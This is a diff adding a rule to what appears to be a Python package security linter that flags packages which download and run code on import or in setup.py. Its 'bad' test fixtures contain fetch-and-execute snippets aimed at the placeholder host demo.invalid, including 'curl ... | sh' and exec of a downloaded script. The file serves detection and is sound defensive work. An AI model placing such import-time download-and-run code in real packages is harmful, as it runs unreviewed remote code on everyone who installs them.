@@ -1,0 +1,123 @@
+import type { Sdist, Wheel } from '../../src/distribution/distribution.js'
+import type { Draft } from '../../src/finding.js'
+import { oncePer } from '../../src/once.js'
+import { onImport } from '../../src/python/on-import.js'
+import { finding, quote, rule } from '../../src/rule.js'
+import { importChain } from '../../src/views/import-chain.js'
+
+export default rule({
+  id: 'runs-on-import',
+  topic: 'contents',
+  severity: 'warning',
+  applies: ['wheel', 'sdist', 'release'],
+  enforcedBy: [],
+  force: 'none',
+  source: 'PyPI, "Malware reports"; security advice of ours',
+  url: 'https://docs.pypi.org/project-management/storage-limits/',
+  summary: 'A package downloads something and starts a program while it is imported, or setup.py while it builds.',
+  why: 'Everybody who imports or builds it runs code that nobody has reviewed, and that may be another tomorrow. This is how most malicious releases work.',
+  breaks: 'Importing the package runs code from the network, which the release before did not.',
+  fix: 'Move it into a function that the user calls, and ship what is downloaded.',
+  precision: 'high',
+  securitySeverity: 8,
+  needs: ['python-imports'],
+  bad: [
+    {
+      wheel: {
+        files: {
+          'demo/__init__.py':
+            'import subprocess, sys\n\n\ndef _task():\n    subprocess.run(["curl", "-s", "https://demo.invalid/x", "-o", "/tmp/x"])\n    subprocess.Popen([sys.executable, "/tmp/x"])\n\n\n_task()\n',
+        },
+      },
+    },
+    {
+      wheel: {
+        files: {
+          'demo/__init__.py':
+            'import urllib.request\n\nexec(urllib.request.urlopen("https://demo.invalid/x").read())\n',
+        },
+      },
+    },
+    {
+      sdist: {
+        files: {
+          '{top}/setup.py':
+            'import os\nfrom setuptools import setup\n\nos.system("curl https://demo.invalid/x | sh")\nsetup(name="demo", version="1.0")\n',
+        },
+      },
+    },
+    {
+      baseline: [{ wheel: { version: '0.9' } }],
+      release: [
+        {
+          wheel: {
+            files: {
+              'demo/__init__.py':
+                'import os\nimport urllib.request\n\nurllib.request.urlretrieve("https://demo.invalid/x", "/tmp/x")\nos.system("/tmp/x")\n',
+            },
+          },
+        },
+      ],
+    },
+  ],
+  good: [
+    {
+      wheel: {
+        files: {
+          'demo/__init__.py':
+            'import subprocess\nimport urllib.request\n\n\ndef fetch(url):\n    urllib.request.urlretrieve(url, "x")\n    subprocess.run(["./x"])\n',
+        },
+      },
+    },
+    {
+      wheel: {
+        files: {
+          'demo/__init__.py':
+            'import subprocess\n\nrevision = subprocess.run(["git", "describe"], capture_output=True).stdout\n',
+        },
+      },
+    },
+  ],
+  *check(subject) {
+    if (subject.kind !== 'release') {
+      // The texts are not kept for the release: it is read here.
+      const found = deedsOf(subject)
+      if (found) yield found
+      return
+    }
+    const { baseline, distributions } = subject
+    if (!baseline) return
+    for (const one of distributions) {
+      const found = deedsOf(one)
+      const before = baseline.distributions.filter(({ kind }) => kind === one.kind)
+      if (!found || before.length === 0 || before.some(other => deedsOf(other))) continue
+      yield finding(found.at, `${found.message.slice(0, -1)}; version ${baseline.version} does nothing like it.`, {
+        path: one.path,
+        severity: 'error',
+        subject: 'new',
+      })
+    }
+  },
+})
+
+const deedsOf = oncePer((subject: Wheel | Sdist): Draft | undefined => {
+  for (const member of filesOf(subject)) {
+    const file = subject.python.get(member)
+    const found = file && onImport(file.text)
+    const [download] = found?.downloads ?? []
+    const start = found?.starts.find(({ line }) => line >= (download?.line ?? 0)) ?? found?.starts[0]
+    if (!download || !start) continue
+    const when = subject.kind === 'wheel' ? 'while it is imported' : 'whenever it is built'
+    const what =
+      start.line === download.line
+        ? `downloads something and starts it (${quote(start.call)})`
+        : `downloads something (${quote(download.call)}) and starts a program (${quote(start.call)} in line ${start.line})`
+    return finding({ member, line: download.line, column: download.column }, `${quote(member)} ${what} ${when}.`)
+  }
+  return undefined
+})
+
+function filesOf(subject: Wheel | Sdist): readonly string[] {
+  if (subject.kind === 'wheel') return importChain(subject).modules.map(({ member }) => member)
+  return subject.top === undefined ? [] : [`${subject.top}/setup.py`, `./${subject.top}/setup.py`]
+}
